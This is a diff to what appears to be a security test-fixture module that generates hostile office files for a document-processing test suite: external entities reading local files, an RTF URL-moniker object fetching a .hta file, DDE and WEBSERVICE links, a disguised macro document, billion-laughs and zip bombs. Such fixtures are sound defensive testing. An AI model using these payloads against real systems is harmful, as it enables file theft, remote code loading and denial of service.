@@ -1,4 +1,4 @@
-/** Documents of offices that link, include, run or swell. */
+/** Office documents with external references, macros, embedded objects and bombs. */
 import { deflateRawSync } from 'node:zlib'
 import { hostileDocuments } from '../support/hostile-documents.ts'
 import { paragraph, writeDocx } from '../support/write-docx.ts'
@@ -10,23 +10,26 @@ const words = paragraph('Visible words')
 const xml = '<?xml version="1.0" encoding="UTF-8"?>'
 const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
 
-export function reachingOfficeDocuments(targets: Targets): HostileFile[] {
+export function officeDocumentsWithExternalReferences(targets: Targets): HostileFile[] {
   const { http, text, image } = targets
-  const known = hostileDocuments({ address: http, imagePath: image, textPath: text })
+  const shared = hostileDocuments({ address: http, imagePath: image, textPath: text })
   return [
-    ...known
+    ...shared
       .filter(({ format }) => format !== 'html')
       .map(({ what, format, content }) =>
-        hostile('reach', `${format}: ${what}`, `letter.${format}`, content),
+        hostile('external', `${format}: ${what}`, `letter.${format}`, content),
       ),
-    hostile('reach', 'docx: an entity from the disk', 'letter.docx', entityDocx(`file://${text}`)),
-    hostile('reach', 'docx: an entity from a server', 'letter.docx', entityDocx(`${http}/entity`)),
-    hostile('reach', 'docx: frames, fonts and sounds on a server', 'letter.docx', outsidePartsDocx(http)),
-    hostile('reach', 'odt: an entity from the disk', 'letter.odt', entityOdt(text)),
-    hostile('reach', 'xlsx: WEBSERVICE, DDE and links', 'sheet.xlsx', workbook(http, text), ['docx', 'odt']),
-    hostile('reach', 'pptx: pictures and films elsewhere', 'slides.pptx', slides(http, image), ['docx']),
-    hostile('reach', 'rtf: an object of an address', 'letter.doc', monikerRtf(http), ['doc', 'rtf']),
-    hostile('script', 'docm: a macro that calls itself a document', 'letter.docx', macroDocx()),
+    hostile('external', 'docx: an external entity on disk', 'letter.docx', entityDocx(`file://${text}`)),
+    hostile('external', 'docx: an external entity on a server', 'letter.docx', entityDocx(`${http}/entity`)),
+    hostile('external', 'docx: frames, fonts and audio on a server', 'letter.docx', outsidePartsDocx(http)),
+    hostile('external', 'odt: an external entity on disk', 'letter.odt', entityOdt(text)),
+    hostile('external', 'xlsx: WEBSERVICE, DDE and links', 'sheet.xlsx', workbook(http, text), [
+      'docx',
+      'odt',
+    ]),
+    hostile('external', 'pptx: external images and videos', 'slides.pptx', slides(http, image), ['docx']),
+    hostile('external', 'rtf: a URL moniker', 'letter.doc', monikerRtf(http), ['doc', 'rtf']),
+    hostile('script', 'docm: a macro document declared as docx', 'letter.docx', macroDocx()),
   ]
 }
 
@@ -121,13 +124,13 @@ function slides(http: string, image: string): Buffer {
   })
 }
 
-/** An object whose name is an address (a URL moniker), the way many have been attacked. */
+/** An OLE object with a URL moniker, a common exploit vector. */
 function monikerRtf(http: string): string {
   const address = Buffer.from(`${http}/moniker.hta\0`, 'utf16le').toString('hex')
   return `{\\rtf1\\ansi Visible words\\par{\\object\\objautlink\\objupdate\\rsltpict{\\*\\objclass htmlfile}{\\*\\objdata 0105000002000000090000004f4c45324c696e6b00e0c9ea79f9bace118c8200aa004ba90b${address}}{\\result x}}\\par}`
 }
 
-export function heavyOfficeDocuments(): HostileFile[] {
+export function officeDocumentBombs(): HostileFile[] {
   const bomb = (what: string, content: Buffer | string, name = 'letter.docx') =>
     hostile('bomb', what, name, content)
   const megabytes = 1024 * 1024
@@ -137,7 +140,7 @@ export function heavyOfficeDocuments(): HostileFile[] {
   const body = (inner: string) => `${xml}<w:document ${wordSpace}><w:body>${inner}</w:body></w:document>`
   return [
     bomb(
-      'docx: a page of spaces that unpacks to a third of a gigabyte',
+      'docx: a decompression bomb of 330 megabytes',
       docxWith({ 'word/document.xml': body(words), 'word/media/a.xml': Buffer.alloc(330 * megabytes, 32) }),
     ),
     bomb(
@@ -146,22 +149,22 @@ export function heavyOfficeDocuments(): HostileFile[] {
         'word/document.xml': `${xml}<!DOCTYPE d [<!ENTITY e0 "ha">${laughs}]><w:document ${wordSpace}><w:body><w:p><w:r><w:t>&e10;</w:t></w:r></w:p></w:body></w:document>`,
       }),
     ),
-    bomb('docx: tables in tables', docxWith({ 'word/document.xml': body(nestedTables(200)) })),
+    bomb('docx: deeply nested tables', docxWith({ 'word/document.xml': body(nestedTables(200)) })),
     bomb(
-      'docx: elements in elements',
+      'docx: deeply nested elements',
       docxWith({
         'word/document.xml': body(`${'<w:smartTag>'.repeat(30_000)}${'</w:smartTag>'.repeat(30_000)}`),
       }),
     ),
-    bomb('docx: entries that overlap', overlappingDocx()),
-    bomb('rtf: groups in groups', `{\\rtf1 ${'{'.repeat(50_000)}a${'}'.repeat(50_000)}}`, 'letter.rtf'),
+    bomb('docx: overlapping entries', overlappingDocx()),
+    bomb('rtf: deeply nested groups', `{\\rtf1 ${'{'.repeat(50_000)}a${'}'.repeat(50_000)}}`, 'letter.rtf'),
     bomb(
-      'rtf: binary data without end',
+      'rtf: binary data that exceeds the file',
       `{\\rtf1 Visible words {\\pict\\pngblip\\bin2147483647 abc}}`,
       'letter.rtf',
     ),
     bomb(
-      'rtf: a table wider than the world',
+      'rtf: a table of maximum width',
       `{\\rtf1 ${'\\trowd\\cellx2147483647'.repeat(500)}\\intbl a\\cell\\row}`,
       'letter.rtf',
     ),
@@ -173,7 +176,7 @@ function nestedTables(depth: number): string {
   return `${open.repeat(depth)}${words}${`<w:p/></w:tc></w:tr></w:tbl>`.repeat(depth)}${words}`
 }
 
-/** Many names for the same packed megabytes: the trick of a zip that is small and unpacks to a mountain. */
+/** Many entries for the same compressed megabytes: an overlapping zip bomb. */
 function overlappingDocx(): Buffer {
   const plain = Buffer.alloc(8 * 1024 * 1024, 32)
   const shared = { packed: deflateRawSync(plain), plain }
